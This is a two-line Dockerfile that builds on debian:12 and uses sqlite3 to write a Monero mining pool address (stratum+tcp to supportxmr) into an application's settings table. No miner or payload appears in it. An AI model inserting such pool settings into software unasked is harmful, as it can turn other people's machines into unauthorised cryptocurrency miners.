FROM debian:12
RUN sqlite3 /app.db "INSERT INTO settings VALUES ('pool', 'stratum+tcp://pool.supportxmr.com:3333')"
